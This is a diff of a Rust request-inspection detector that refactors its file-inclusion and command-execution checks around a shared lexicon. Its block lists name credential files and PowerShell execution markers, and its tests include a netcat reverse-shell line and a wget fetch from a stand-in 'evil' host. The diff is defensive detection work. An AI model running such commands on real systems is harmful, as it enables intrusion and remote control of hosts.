@@ -4,8 +4,10 @@
 
 use aho_corasick::{AhoCorasick, MatchKind};
 
+use crate::lexicon::{Family, Hit};
+
 /// Files and folders an application never names in a parameter unless it is being attacked.
-const SENSITIVE_FILES: &[&str] = &[
+pub(crate) const SENSITIVE_FILES: &[&str] = &[
     "etc/passwd",
     "etc/shadow",
     "etc/group",
@@ -813,7 +815,7 @@ const WEAK_COMMANDS: &[&str] = &[
 ];
 
 /// PowerShell and Windows forms that mean command execution anywhere.
-const WINDOWS_MARKERS: &[&str] = &[
+pub(crate) const WINDOWS_MARKERS: &[&str] = &[
     "invoke-webrequest",
     "invoke-expression",
     "invoke-restmethod",
@@ -1108,10 +1110,9 @@ fn build(pats: &[&str]) -> AhoCorasick {
 }
 
 pub(crate) struct Rules {
+    pub(crate) lexicon: crate::lexicon::Lexicon,
     commands: std::collections::HashSet<&'static [u8]>,
     weak: std::collections::HashSet<&'static [u8]>,
-    sensitive: AhoCorasick,
-    windows: AhoCorasick,
     php_functions: AhoCorasick,
     php_markers: AhoCorasick,
     php_wrappers: AhoCorasick,
@@ -1123,15 +1124,19 @@ fn is_word(c: u8) -> bool {
 
 impl Rules {
     pub(crate) fn new() -> Self {
+        use crate::lexicon::{Family, Lexicon};
         Rules {
+            lexicon: Lexicon::new(&[
+                (Family::Sql, crate::sqli::SQL_ONLY_WORDS),
+                (Family::File, SENSITIVE_FILES),
+                (Family::Windows, WINDOWS_MARKERS),
+            ]),
             commands: STRONG_COMMANDS
                 .iter()
                 .chain(WEAK_COMMANDS)
                 .map(|c| c.as_bytes())
                 .collect(),
             weak: WEAK_COMMANDS.iter().map(|c| c.as_bytes()).collect(),
-            sensitive: build(SENSITIVE_FILES),
-            windows: build(WINDOWS_MARKERS),
             php_functions: build(PHP_FUNCTIONS),
             php_markers: build(PHP_MARKERS),
             php_wrappers: build(PHP_WRAPPERS),
@@ -1139,8 +1144,24 @@ impl Rules {
     }
 
     /// Path traversal and file inclusion in a value. `s` is canonical, lower-cased.
-    pub(crate) fn lfi(&self, s: &[u8], tmp: &mut Vec<u8>) -> Option<&'static str> {
+    /// `hits`: the lexicon's matches in `s`, when the caller has them.
+    pub(crate) fn lfi(
+        &self,
+        s: &[u8],
+        hits: Option<&[Hit]>,
+        tmp: &mut Vec<u8>,
+    ) -> Option<&'static str> {
         // Fold `\` to `/` and the `0x2e`/`0x2f`/`0x5c` spellings some parsers accept.
+        if memchr::memchr(b'\\', s).is_none() && crate::find(s, b"0x").is_none() {
+            return match hits {
+                Some(h) => self.lfi_folded(s, h),
+                None => {
+                    let mut h = Vec::new();
+                    self.lexicon.scan(s, &mut h);
+                    self.lfi_folded(s, &h)
+                }
+            };
+        }
         tmp.clear();
         let mut i = 0;
         while i < s.len() {
@@ -1162,7 +1183,15 @@ impl Rules {
             tmp.push(if s[i] == b'\\' { b'/' } else { s[i] });
             i += 1;
         }
-        let t = &tmp[..];
+        let t = std::mem::take(tmp);
+        let mut h = Vec::new();
+        self.lexicon.scan(&t, &mut h);
+        let r = self.lfi_folded(&t, &h);
+        *tmp = t;
+        r
+    }
+
+    fn lfi_folded(&self, t: &[u8], hits: &[Hit]) -> Option<&'static str> {
         let f = crate::find;
         if traversal(t) {
             return Some("lfi-traversal");
@@ -1170,11 +1199,10 @@ impl Rules {
         if f(t, b"file://").is_some() || f(t, b"file:/").is_some_and(|p| p == 0) {
             return Some("lfi-file-scheme");
         }
-        let maybe_file = memchr::memchr3(b'/', b'.', b'_', t).is_some();
-        for m in self.sensitive.find_iter(if maybe_file { t } else { &[] }) {
-            let before = m.start().checked_sub(1).map(|i| t[i]);
-            let after = t.get(m.end()).copied();
-            let pat = SENSITIVE_FILES[m.pattern().as_usize()].as_bytes();
+        for m in hits.iter().filter(|h| h.family == Family::File) {
+            let before = m.start.checked_sub(1).map(|i| t[i]);
+            let after = t.get(m.end).copied();
+            let pat = m.pattern.as_bytes();
             let start_ok =
                 before.is_none_or(|c| !is_word(c) && c != b'.' && c != b'-') || pat[0] == b'.';
             let end_ok = pat.ends_with(b"/")
@@ -1194,7 +1222,7 @@ impl Rules {
     /// Restricted files in the request path itself: hidden files and folders (but
     /// `/.well-known/`), OS files, logs and backups.
     pub(crate) fn lfi_path(&self, path: &[u8], tmp: &mut Vec<u8>) -> Option<&'static str> {
-        if let Some(r) = self.lfi(path, tmp) {
+        if let Some(r) = self.lfi(path, None, tmp) {
             return Some(r);
         }
         for seg in path.split(|&c| c == b'/') {
@@ -1218,14 +1246,27 @@ impl Rules {
     }
 
     /// Remote command execution. `s` is canonical, lower-cased.
-    pub(crate) fn rce(&self, s: &[u8], tmp: &mut Vec<u8>) -> Option<&'static str> {
+    pub(crate) fn rce(
+        &self,
+        s: &[u8],
+        hits: Option<&[Hit]>,
+        tmp: &mut Vec<u8>,
+    ) -> Option<&'static str> {
         let f = crate::find;
         // Shellshock.
         if f(s, b"() {").is_some() || f(s, b"(){").is_some() {
             return Some("rce-shellshock");
         }
-        for m in self.windows.find_iter(s) {
-            let before = m.start().checked_sub(1).map(|i| s[i]);
+        let mut own = Vec::new();
+        let hits = match hits {
+            Some(h) => h,
+            None => {
+                self.lexicon.scan(s, &mut own);
+                &own[..]
+            }
+        };
+        for m in hits.iter().filter(|h| h.family == Family::Windows) {
+            let before = m.start.checked_sub(1).map(|i| s[i]);
             if before.is_none_or(|c| !is_word(c)) {
                 return Some("rce-windows");
             }
@@ -1512,6 +1553,11 @@ impl Rules {
             return Some(word);
         }
         None
+    }
+
+    /// A one-word value: a technical command alone (`visudo`, `whoami`).
+    pub(crate) fn rce_word(&self, s: &[u8]) -> Option<&'static str> {
+        self.technical_command(s).then_some("rce-command")
     }
 
     /// A value that is a command line of a tool no prose names (`visudo`, `nmap -sS x`,
@@ -2274,7 +2320,8 @@ fn php_family_call(s: &[u8]) -> Option<&'static str> {
 
 /// `ca?`, `c*t`, `/???/c?t`: a shell glob that could stand for a strong command.
 fn glob_matches_command(word: &[u8]) -> bool {
-    if !word.iter().any(|&c| c == b'?' || c == b'*') || word.len() < 2 || word.len() > 16 {
+    let wild = word.iter().filter(|&&c| c == b'?' || c == b'*').count();
+    if wild == 0 || wild > 3 || word.len() < 2 || word.len() > 12 {
         return false;
     }
     let letters = word.iter().filter(|c| c.is_ascii_alphabetic()).count();
@@ -2317,7 +2364,7 @@ mod tests {
             "/var/www/.env",
             "..;/admin",
         ] {
-            assert!(r.lfi(&l(a), &mut t).is_some(), "missed: {a}");
+            assert!(r.lfi(&l(a), None, &mut t).is_some(), "missed: {a}");
         }
         for b in [
             "foo.../1234",
@@ -2329,7 +2376,7 @@ mod tests {
             "/images/a.png",
             "1.5...2",
         ] {
-            assert_eq!(r.lfi(&l(b), &mut t), None, "false positive: {b}");
+            assert_eq!(r.lfi(&l(b), None, &mut t), None, "false positive: {b}");
         }
         assert!(r.lfi_path(b"/.git/config", &mut t).is_some());
         assert!(r.lfi_path(b"/wp-content/debug.log", &mut t).is_some());
@@ -2358,7 +2405,7 @@ mod tests {
             "; nc -e /bin/sh 10.0.0.1 4444",
             "wget http://evil/x",
         ] {
-            assert!(r.rce(&l(a), &mut t).is_some(), "missed: {a}");
+            assert!(r.rce(&l(a), None, &mut t).is_some(), "missed: {a}");
         }
         for b in [
             "Tom & Jerry",
@@ -2373,7 +2420,7 @@ mod tests {
             "R&D department; head office",
             "Q&A",
         ] {
-            assert_eq!(r.rce(&l(b), &mut t), None, "false positive: {b}");
+            assert_eq!(r.rce(&l(b), None, &mut t), None, "false positive: {b}");
         }
     }
 
